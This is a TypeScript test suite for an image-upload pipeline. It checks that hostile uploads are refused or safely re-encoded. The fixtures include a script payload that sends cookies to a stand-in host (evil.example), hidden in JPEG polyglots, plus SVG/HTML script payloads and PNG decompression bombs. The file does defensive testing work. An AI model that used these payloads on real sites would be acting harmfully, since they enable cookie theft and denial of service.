/**
 * Hostile images (issue #3): each gets a clear 4xx error or a safe result, and nothing crashes.
 * Every file is made here, in code, so the test says exactly what it is.
 */
import fc from 'fast-check';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { DomainError } from '../../shared/domain/errors.ts';
import { IMAGE_LIMITS, processImage } from '../../shared/images/pipeline.ts';
import { photoJpeg, pngBomb } from '../fixtures/images/generate.ts';
import { memoryStore } from '../fixtures/images/memory-store.ts';

/** The DomainError processImage rejects with (fails the test if it resolves or throws anything else). */
async function refusal(input: Buffer): Promise<DomainError> {
  const store = memoryStore();
  const error = await processImage(input, 'hostile', store).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(DomainError);
  expect(store.files.size).toBe(0); // nothing half-written
  return error as DomainError;
}

function expectClear(error: DomainError, code: string) {
  expect(error.kind).toBe('invalid'); // → 400
  expect(error.code).toBe(code);
  // Vietnamese first, then English.
  expect(error.message).toMatch(/^[^/]+ \/ [A-Z]/);
}

describe('hostile images', () => {
  it('refuses a text file named .jpg (the name and declared type are never trusted)', async () => {
    const error = await refusal(Buffer.from('IMG_2024.jpg\nthis is not a photo, just text\n'));
    expectClear(error, 'image.unsupported');
    expect(error.message).toContain('JPEG, PNG, WebP');
  });

  it('refuses SVG (it can carry script), GIF, TIFF, HTML and an empty file', async () => {
    const tiny = sharp({ create: { width: 8, height: 8, channels: 3, background: '#2a7a3a' } });
    for (const input of [
      Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
      ),
      Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
      await tiny.clone().gif().toBuffer(),
      await tiny.clone().tiff().toBuffer(),
      Buffer.from('<!doctype html><script>alert(1)</script>'),
      Buffer.alloc(0),
    ]) {
      expectClear(await refusal(input), 'image.unsupported');
    }
  });

  it('refuses a truncated JPEG as damaged, although its header is intact', async () => {
    const whole = await photoJpeg(800, 600);
    const truncated = whole.subarray(0, Math.floor(whole.length * 0.6));
    // The header alone looks fine: only decoding finds the missing data.
    expect((await sharp(truncated).metadata()).width).toBe(800);
    const error = await refusal(truncated);
    expectClear(error, 'image.corrupt');
    expect(error.message).toContain('upload it again');
  });

  it('refuses a PNG decompression bomb from its header, without allocating the canvas', async () => {
    const bomb = pngBomb(100_000, 100_000); // 10 gigapixels: 30 GB as RGB
    expect(bomb.length).toBeLessThan(1024);
    const rssBefore = process.memoryUsage().rss;
    const started = performance.now();
    const error = await refusal(bomb);
    expectClear(error, 'image.too_many_pixels');
    expect(error.message).toContain('100000×100000');
    expect(performance.now() - started).toBeLessThan(1000);
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(100 * 1024 * 1024);
  });

  it('refuses a bomb just under the pixel limit whose data stops after one row', async () => {
    // 6000 × 6000 = 36 MP declared, a few hundred bytes of data: decoding runs out of data.
    const bomb = pngBomb(6000, 6000);
    expect(bomb.length).toBeLessThan(1024);
    expectClear(await refusal(bomb), 'image.corrupt');
  });

  it('keeps only the re-encoded image of a JPEG with HTML and script appended or in a comment', async () => {
    const payload = '<html><script>fetch("https://evil.example/?c="+document.cookie)</script></html>';
    const jpeg = await photoJpeg(900, 600);
    const appended = Buffer.concat([jpeg, Buffer.from(payload)]);
    // A JPEG comment segment (FF FE) right after SOI, the classic polyglot trick.
    const comment = Buffer.from(payload);
    const segment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), comment]);
    segment.writeUInt16BE(comment.length + 2, 2);
    const inComment = Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);

    for (const [name, input] of [
      ['appended', appended],
      ['comment', inComment],
    ] as const) {
      expect(input.includes(Buffer.from('<script>')), name).toBe(true);
      const store = memoryStore();
      await expect(processImage(input, name, store), name).resolves.toMatchObject({ width: 900 });
      expect(store.files.size, name).toBe(9);
      for (const [path, { body, contentType }] of store.files) {
        expect(body.includes(Buffer.from('<script')), path).toBe(false);
        expect(body.includes(Buffer.from('evil.example')), path).toBe(false);
        expect(body.includes(Buffer.from('<html')), path).toBe(false);
        // Each output is a whole, valid image of the declared type, and ends where the image ends.
        const meta = await sharp(body, { failOn: 'warning' }).metadata();
        expect(`image/${meta.format === 'heif' ? 'avif' : meta.format}`, path).toBe(contentType);
        await expect(sharp(body, { failOn: 'warning' }).raw().toBuffer(), path).resolves.toBeDefined();
        if (contentType === 'image/jpeg') expect([...body.subarray(-2)], path).toEqual([0xff, 0xd9]);
      }
    }
  });

  it('refuses a 50 MP photo with the 40 megapixel message', async () => {
    const big = await sharp({
      create: { width: 8700, height: 5800, channels: 3, background: '#5b8c3a' },
    })
      .jpeg({ quality: 70 })
      .toBuffer();
    expect(big.length).toBeLessThan(IMAGE_LIMITS.maxBytes); // refused for its pixels, not its bytes
    const error = await refusal(big);
    expectClear(error, 'image.too_many_pixels');
    expect(error.message).toContain('40 megapixel');
    expect(error.message).toContain('8700×5800');
  });

  it('refuses more than 15 MB before looking inside', async () => {
    const jpeg = await photoJpeg(64, 48);
    const padded = Buffer.concat([jpeg, Buffer.alloc(IMAGE_LIMITS.maxBytes)]);
    const error = await refusal(padded);
    expectClear(error, 'image.too_large');
    expect(error.message).toContain('15 MB');
  });

  it('refuses a strip more than 5:1, whose renditions no page could use', async () => {
    const strip = await sharp({ create: { width: 6000, height: 1000, channels: 3, background: '#ccc' } })
      .jpeg()
      .toBuffer();
    expectClear(await refusal(strip), 'image.bad_shape');
  });

  it('refuses a HEIF container whose content is not an image it can decode', async () => {
    const fake = Buffer.concat([
      Buffer.from([0, 0, 0, 24]),
      Buffer.from('ftypheic\0\0\0\0mif1heic'),
      Buffer.alloc(64),
    ]);
    const error = await refusal(fake);
    expect(['image.corrupt', 'image.heic_unsupported']).toContain(error.code);
  });

  it('never crashes on damaged JPEGs: every outcome is renditions or a DomainError', async () => {
    const jpeg = await photoJpeg(96, 64);
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.record({ at: fc.nat({ max: jpeg.length - 1 }), byte: fc.integer({ min: 0, max: 255 }) }),
          {
            minLength: 1,
            maxLength: 12,
          },
        ),
        fc.option(fc.nat({ max: jpeg.length }), { nil: undefined }),
        async (flips, cut) => {
          const damaged = Buffer.from(jpeg.subarray(0, cut ?? jpeg.length));
          for (const { at, byte } of flips) if (at < damaged.length) damaged[at] = byte;
          const store = memoryStore();
          const outcome = await processImage(damaged, 'fuzz', store).then(
            () => 'ok',
            (e: unknown) => e,
          );
          if (outcome === 'ok') expect(store.files.size).toBe(9);
          else expect(outcome).toBeInstanceOf(DomainError);
        },
      ),
      { numRuns: 150, seed: 20260310 },
    );
  });

  it('never crashes on arbitrary bytes behind an image signature', async () => {
    const signatures = [
      [0xff, 0xd8, 0xff],
      [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a],
      [...Buffer.from('RIFF\0\0\0\0WEBP')],
      [0, 0, 0, 0x1c, ...Buffer.from('ftypavif')],
    ];
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...signatures),
        fc.uint8Array({ maxLength: 512 }),
        async (signature, rest) => {
          const error = await processImage(
            Buffer.concat([Buffer.from(signature), rest]),
            'fuzz',
            memoryStore(),
          ).then(
            () => undefined,
            (e: unknown) => e,
          );
          // Random bytes are never a decodable image, so each is a clear refusal.
          expect(error).toBeInstanceOf(DomainError);
        },
      ),
      { numRuns: 200, seed: 20260310 },
    );
  });
});
